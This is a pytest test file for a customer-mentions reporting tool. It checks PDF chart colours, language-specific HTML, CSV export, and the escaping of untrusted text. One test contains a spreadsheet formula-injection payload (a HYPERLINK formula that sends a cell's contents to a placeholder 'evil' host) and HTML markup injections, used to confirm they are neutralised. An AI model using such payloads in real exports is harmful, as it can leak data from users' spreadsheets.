"""The period report: built from a store, written as HTML and PDF, and the PDF looked at as a
picture (pdftoppm): the volume chart's red and green show the stored negative and positive
mentions in proportion. CSV exports the mentions, and the tenant's language is the report's."""

import shutil
import subprocess
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest
from PIL import Image

from escucha.core.period import period
from escucha.core.tenant import Tenant
from escucha.report import render
from escucha.report.charts import NEGATIVE, POSITIVE
from escucha.report.contents import build_report
from escucha.store.migrate import upgrade
from escucha.store.store import Store
from escucha.store.tenants import Tenants
from tests.factories import triaged

ANGRY = "@aerosol perdieron mi maleta y nadie responde, un servicio vergonzoso"
HAPPY = "Gracias @aerosol, la tripulación fue encantadora y el vuelo puntual 😍"
NOW = datetime(2026, 12, 3, 12, tzinfo=UTC)
SHOP = Tenant(id="acme", name="Aerolíneas Sol", timezone="Europe/Madrid", brands=["@aerosol"],
              competitors=["Iberia"])  # fmt: skip


@pytest.fixture
def store(sqlite_url):
    upgrade(sqlite_url)
    store = Store.from_url(sqlite_url)
    Tenants(store.engine).put(SHOP)
    day = datetime(2026, 11, 10, 10, tzinfo=UTC)
    said = [(n, ANGRY, day) for n in range(12)]
    said += [(100 + n, HAPPY, day + timedelta(days=5)) for n in range(4)]
    said.append((200, "Con Iberia nunca me pasó esto, @aerosol", day))
    store.save([triaged(n, SHOP, tenant="acme", author=f"c{n}", text=text,
                        created_at=at.isoformat()) for n, text, at in said])  # fmt: skip
    yield store
    store.dispose()


def colour_share(image: Image.Image, colour: str) -> int:
    """How many pixels are near `colour` (a chart's bar, after scaling and anti-aliasing)."""
    target = np.array([int(colour[i : i + 2], 16) for i in (1, 3, 5)])
    pixels = np.asarray(image.convert("RGB"), dtype=int)
    return int((np.abs(pixels - target).sum(axis=2) < 60).sum())


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="pdftoppm (poppler-utils) missing")
def test_the_pdf_shows_the_stored_mentions_in_its_volume_chart(store, tmp_path):
    report = build_report(store.engine, SHOP, period("2026-11", SHOP.zone), NOW)
    negative = sum(d.negative for d in report.days)
    positive = sum(d.positive for d in report.days)
    assert negative >= 10 and positive >= 3, report.days  # what the analyser made of them
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(render.pdf(report))
    subprocess.run(["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "1", str(pdf),
                    str(tmp_path / "page")], check=True)  # fmt: skip
    page = Image.open(next(tmp_path.glob("page*.png")))
    red, green = colour_share(page, NEGATIVE), colour_share(page, POSITIVE)
    assert red > 0 and green > 0
    # Bars share a width, so their areas stand in the ratio of the counts they draw.
    assert red / green == pytest.approx(negative / positive, rel=0.25), (red, green)


def test_the_html_is_in_the_tenants_language_with_its_figures(store):
    report = build_report(store.engine, SHOP, period("2026-11", SHOP.zone), NOW)
    page = render.html(report)
    assert "Informe de relación con clientes" in page and "data:image/png;base64," in page
    assert f"{report.mentions} menciones" in page and "Iberia" in page
    english = build_report(store.engine, SHOP.model_copy(update={"languages": ["en"]}),
                           period("2026-11", SHOP.zone), NOW)  # fmt: skip
    assert "Customer relationship report" in render.html(english)
    assert [v.name for v in report.voices] == ["Aerolíneas Sol", "Iberia"]
    assert report.voices[1].mentions == 1


def test_the_csv_has_one_row_per_mention_in_the_tenants_zone(store):
    report = build_report(store.engine, SHOP, period("2026-11", SHOP.zone), NOW)
    lines = render.mentions_csv(report).splitlines()
    assert len(lines) == 1 + report.mentions
    assert "+01:00" in lines[1]  # Madrid in November


def test_a_strangers_words_never_run_as_a_formula_nor_as_markup(store):
    from escucha.report.render import inert

    assert inert('=HYPERLINK("http://evil/?"&A1,"click")').startswith("'=")
    assert inert("@SUM(A1)") == "'@SUM(A1)" and inert("hola") == "hola"
    shop = SHOP.model_copy(update={"name": "<b>Sol</b>", "competitors": ['<link href="x">']})
    page = render.html(build_report(store.engine, shop, period("2026-11", SHOP.zone), NOW))
    assert "<b>Sol</b>" not in page and "&lt;b&gt;Sol&lt;/b&gt;" in page
    assert '<link href="x">' not in page
